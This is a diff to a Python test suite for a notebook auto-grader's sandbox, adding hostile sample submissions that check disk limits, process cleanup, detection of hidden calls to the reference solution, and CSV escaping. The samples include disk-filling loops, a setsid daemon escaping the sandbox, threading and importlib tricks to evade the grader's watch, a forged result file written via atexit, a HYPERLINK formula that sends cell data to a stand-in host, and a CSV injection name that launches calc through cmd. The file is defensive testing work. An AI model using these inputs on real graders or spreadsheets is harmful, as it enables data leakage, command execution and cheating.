@@ -24,7 +24,7 @@ from course_lib.grading.__main__ import main
 from course_lib.grading.batch import grade_all
 from course_lib.grading.sandbox import Limits, isolation
 
-LIMITS = Limits(cell_seconds=1, total_seconds=4, memory_bytes=2**30)
+LIMITS = Limits(cell_seconds=1, total_seconds=4, memory_bytes=2**30, disk_bytes=32 * 2**20)
 FULL = 4.0  # q1 2 points, q2 1, q3 1
 
 SETUP = "from course_lib.grading import checker\ncheck = checker('zz_grading_selftest')\nimport numpy as np"
@@ -84,6 +84,13 @@ ISOLATION_CASES = {
     "raises_its_limits": honest_with(
         "import resource\ntry:\n    resource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n"
         "    print('LIMIT-RAISED')\nexcept (ValueError, OSError) as error:\n    print('LIMIT-KEPT', error)"),
+    # Files of 16 MiB (under the file-size limit) until the 32 MiB disk limit stops it.
+    "fills_tmp": honest_with("import tempfile, os\nfor i in range(1000):\n    with open(os.path.join("
+                             "tempfile.gettempdir(), f'f{i}'), 'wb') as f:\n        f.write(bytes(2**24))"),
+    "fills_work_folder": honest_with("for i in range(1000):\n    open(f'f{i}', 'wb').write(bytes(2**24))"),
+    # A daemon in its own session, holding the output pipe: killed with the sandbox or the cgroup.
+    "daemon": honest_with("import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                          "        os.execv('/bin/sleep', ['sleep', '293.5'])\n    os._exit(0)\ntime.sleep(0.2)"),
     "files_outside": honest_with(
         "try:\n    print('READ', open('SECRET').read())\nexcept OSError as error:\n    print('READ-BLOCKED', error)",
         "try:\n    open('PWNED', 'w').write('x')\nexcept OSError as error:\n    print('WRITE-BLOCKED', error)"),
@@ -124,6 +131,15 @@ OTHER_CASES = {
     "calls_reference": notebook(
         SETUP, Q1, Q2, "from course_lib.quadratic import condition_number as cn\n"
         "def kappa(eigenvalues):\n    import sys\n    sys.setprofile(None)\n    return cn(eigenvalues)"),
+    "calls_reference_in_a_thread": notebook(
+        SETUP, Q1, Q2, "import importlib, threading\ndef kappa(eigenvalues):\n    out = []\n"
+        "    f = getattr(importlib.import_module('course_lib.' + 'quadratic'), 'condition_' + 'number')\n"
+        "    worker = threading.Thread(target=lambda: out.append(f(eigenvalues)))\n"
+        "    worker.start()\n    worker.join()\n    return out[0]"),
+    "thread_outlives_the_answers": honest_with(
+        "import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()",
+        "import atexit\natexit.register(lambda: open('result.json', 'w').write('{}'))"),
+    "formula_as_exercise": notebook(*HONEST, exercise='=HYPERLINK("http://x.example/?"&A1)'),
     "calls_reference_by_attribute": notebook(
         SETUP, Q1, Q2, "import course_lib.quadratic as quadratic\n"
         "def kappa(eigenvalues):\n    return quadratic.condition_number(eigenvalues)"),
@@ -270,7 +286,7 @@ def test_a_fork_bomb_is_stopped_by_the_process_limit(graded):
 def test_a_cell_that_kills_the_process_is_skipped_on_a_rerun(graded, name, how):
     record = graded["records"][name]
     assert record["score"] == FULL
-    assert record["status"] == f"cell 2 {how}; graded again without it"
+    assert record["status"].startswith(f"cell 2 {how}; graded again without it")
     assert record["cells"][1]["status"] == "skipped"
 
 
@@ -279,6 +295,30 @@ def test_an_answer_that_kills_the_process_scores_zero_alone(graded):
     assert scores(record) == {"q1": 2, "q2": 0, "q3": 1}
     assert "question q2 exited (code 3); graded again without it" in record["status"]
     assert "crashed the process" in status_of(record, "q2")["details"][0]
+
+
+@pytest.mark.parametrize("name", ["fills_tmp", "fills_work_folder"])
+def test_filling_the_disk_is_stopped(graded, name):
+    record = graded["records"][name]
+    assert record["score"] == FULL
+    assert record["status"].startswith("cell 2 wrote more than 32 MiB of files; graded again")
+
+
+def test_no_process_outlives_its_grading(graded):
+    record = graded["records"]["daemon"]
+    assert record["score"] == FULL
+    if not (graded["use_bubblewrap"] or isolation(False).pids_cgroup):
+        pytest.skip("no bubblewrap and no pids cgroup: a new session escapes the final kill")
+    alive = [pid for pid in os.listdir("/proc") if pid.isdigit()
+             and _cmdline(pid) == b"sleep\x00293.5\x00"]
+    assert alive == []
+
+
+def _cmdline(pid):
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_bytes()
+    except OSError:
+        return b""
 
 
 def test_the_limits_cannot_be_raised_from_inside(graded):
@@ -353,12 +393,37 @@ def test_fake_result_files_earn_nothing(strong):
     assert "fake_result_files.ipynb,4.0" not in (strong["base"] / "out" / "grades.csv").read_text()
 
 
-@pytest.mark.parametrize("name", ["calls_reference", "calls_reference_by_attribute"])
+@pytest.mark.parametrize("name", ["calls_reference", "calls_reference_by_attribute",
+                                  "calls_reference_in_a_thread"])
 def test_calling_the_reference_scores_zero_with_the_reason(strong, name):
     record = strong["records"][name]
     assert scores(record) == {"q1": 2, "q2": 1, "q3": 0}
     q3 = status_of(record, "q3")
     assert q3["status"] == "forbidden" and "condition_number" in q3["details"][0]
+
+
+def test_code_that_can_evade_the_watch_is_pointed_out(strong):
+    assert strong["records"]["calls_reference"]["status"] == (
+        "read cell 4: setprofile can hide a call to course_lib")
+    assert strong["records"]["calls_reference_in_a_thread"]["status"] == (
+        "read cell 4: importlib, threading can hide a call to course_lib")
+    assert strong["records"]["honest"]["status"] == "ok"
+
+
+def test_a_thread_or_atexit_handler_left_running_changes_nothing(strong):
+    record = strong["records"]["thread_outlives_the_answers"]
+    assert record["score"] == FULL
+    assert record["status"] == "read cell 2: threading can hide a call to course_lib"
+    assert record["seconds"] < LIMITS.total_seconds  # the child left without waiting for it
+
+
+def test_names_chosen_by_learners_are_not_formulas_in_the_csv(strong):
+    import csv
+
+    rows = list(csv.reader((strong["base"] / "out" / "grades.csv").open()))
+    cell = next(row[1] for row in rows if row[0].endswith("formula_as_exercise.ipynb"))
+    assert cell == "'=HYPERLINK(\"http://x.example/?\"&A1)"
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
 
 
 @pytest.mark.parametrize("name, message", [
@@ -471,3 +536,47 @@ def test_feedback_names_are_distinct_and_safe():
     names = feedback_names(paths)
     assert len(set(names)) == len(names) and names[-1] == "alice"
     assert all("/" not in name and not name.startswith(".") for name in names)
+
+
+def test_a_result_file_cannot_exhaust_the_graders_memory(tmp_path):
+    """60 MB of "[]," would be twenty million lists (gigabytes) in json.loads: refused unread."""
+    import time
+
+    from course_lib.grading.sandbox import RESULT_CONTAINERS, RESULT_LIMIT, _read_result
+
+    result = tmp_path / "result.json"
+    for text in ('{"cells": [' + "[]," * 20_000_000 + "[]]}",  # larger than RESULT_LIMIT
+                 '{"cells": [' + "[]," * (RESULT_CONTAINERS + 1) + "[]]}",  # small, too many lists
+                 '{"cells": [' + "[" * 10**6 + "]" * 10**6 + "]}"):  # nested a million deep
+        result.write_text(text)
+        start = time.perf_counter()
+        assert _read_result(tmp_path) is None
+        assert time.perf_counter() - start < 1
+    assert len('{"cells": [' + "[]," * 20_000_000) > RESULT_LIMIT
+    result.unlink()
+    result.symlink_to(Path(__file__).resolve())
+    assert _read_result(tmp_path) is None  # a symbolic link is never followed
+    result.unlink()
+    result.write_text('{"cells": [], "questions": {}, "running": null}')
+    assert _read_result(tmp_path) == {"cells": [], "questions": {}, "running": None}
+
+
+def test_cell_statuses_from_the_child_are_bounded():
+    from course_lib.grading.batch import MAX_CELLS, _cell_statuses
+
+    statuses = _cell_statuses([{"status": "error", "error": "x" * 10**6}] * (MAX_CELLS + 5) + [3])
+    assert len(statuses) == MAX_CELLS and len(statuses[0]["error"]) == 300
+
+
+def test_the_csv_quotes_and_defuses_whatever_a_learner_named():
+    import csv
+
+    from course_lib.grading.batch import grades_csv
+
+    names = ["=cmd|' /C calc'!A0.ipynb", "+1.ipynb", "-2.ipynb", "@SUM(A1).ipynb",
+             'we,ird "name"\nnewline.ipynb']
+    records = [{"file": name, "exercise": "e", "score": 1.0, "max_score": 2.0, "status": "ok",
+                "isolation": "i", "questions": [{"id": "q1", "score": 1.0}]} for name in names]
+    rows = list(csv.reader(io.StringIO(grades_csv(records))))
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in names[:4]] + [names[4]]
+    assert all(len(row) == 7 for row in rows)
